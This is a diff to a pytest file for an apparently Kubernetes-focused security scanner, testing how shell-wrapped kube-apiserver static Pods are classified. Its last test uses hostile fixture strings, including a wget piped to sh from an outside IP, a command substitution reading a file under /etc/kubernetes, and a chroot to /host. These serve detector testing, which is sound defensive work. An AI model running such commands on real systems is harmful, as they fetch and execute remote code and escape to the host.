@@ -1,5 +1,6 @@
 """Control-plane static Pods are exempt from the workload checks by what they are, not by labels or a name
-(issue 11, req. 1): checks/_pods.py `control_plane_verdict`, reported by KH-WL-013 when a Pod only looks like one.
+(issue 11, req. 1): `control_plane_verdict` of the control-plane engine's one classifier (issue 13), reported by
+KH-WL-013 when a Pod only looks like one.
 """
 
 from __future__ import annotations
@@ -132,3 +133,56 @@ def test_pods_that_make_no_claim_are_ordinary_workloads() -> None:
     elsewhere["metadata"]["namespace"] = "default"
     assert control_plane_verdict(obj(elsewhere)) is None
     assert "KH-WL-003" in findings(elsewhere)  # its host paths are judged like any Pod's
+
+
+def _wrapped(script: str, *, labels: bool = True) -> dict[str, Any]:
+    doc = kubeadm_apiserver()
+    doc["spec"]["containers"][0]["command"] = ["/bin/sh", "-c", script]
+    if not labels:
+        doc["metadata"].pop("labels")
+    return doc
+
+
+@pytest.mark.parametrize("labels", [True, False])
+@pytest.mark.parametrize("script", [
+    "kube-apiserver --anonymous-auth=true --authorization-mode=Node,RBAC",
+    # kube-up's shape: exec, and output redirected to a log file
+    "exec /usr/local/bin/kube-apiserver --anonymous-auth=true --authorization-mode=Node,RBAC "
+    "1>>/var/log/kubernetes/kube-apiserver.log 2>&1",
+])
+def test_a_shell_wrapped_apiserver_is_one_thing_for_the_api_and_the_workload_checks(script: str,
+                                                                                    labels: bool) -> None:
+    """Issue 13: one classifier. The KH-API checks judge this Pod's flags as kube-apiserver's, so the workload
+    checks must see the same kube-apiserver static Pod (exempt, no KH-WL-013), not an ordinary workload."""
+    doc = _wrapped(script, labels=labels)
+    inv = Inventory([obj(doc)], Config())
+    result = run_scan(inv, Config())
+    ids = {f.check_id for f in result.findings}
+    api = [f for f in result.findings if f.check_id == "KH-API-001"]
+    assert api and api[0].evidence[0].path == "spec.containers[0].command[2]", "judged as an API server"
+    assert not {i for i in ids if i.startswith(("KH-WL-", "KH-IMG-", "KH-RBAC-"))}, ids
+    assert workload_specs(inv) == []
+    verdict = control_plane_verdict(obj(doc))
+    assert verdict is not None and verdict.matches and verdict.component == "kube-apiserver"
+    pod = inv.of_kind("Pod")[0]
+    assert inv.control_plane.is_exempt(pod)
+    assert [a.obj for a in inv.control_plane.apiservers] == [pod]
+
+
+@pytest.mark.parametrize("script", [
+    "kube-apiserver --anonymous-auth=false; wget -qO- http://203.0.113.9/x | sh",
+    "kube-apiserver --anonymous-auth=false & sleep 1d",
+    "kube-apiserver --anonymous-auth=false --token-auth-file=$(cat /etc/kubernetes/x)",
+    "kube-apiserver --anonymous-auth=false\nchroot /host",
+])
+def test_a_wrapped_apiserver_that_runs_more_is_a_look_alike(script: str) -> None:
+    """An exempt control-plane Pod must be what it claims: a script that runs other commands besides the
+    API server is judged as a workload and reported, while its flags are still judged as kube-apiserver's."""
+    doc = _wrapped(script)
+    verdict = control_plane_verdict(obj(doc))
+    assert verdict is not None and verdict.modified
+    assert "shell script that runs other commands" in verdict.differences[0][0]
+    inv = Inventory([obj(doc)], Config())
+    found = {f.check_id for f in run_scan(inv, Config()).findings}
+    assert {"KH-WL-013", "KH-API-002"} <= found  # KH-API-002: its --authorization-mode is unset
+    assert workload_specs(inv)
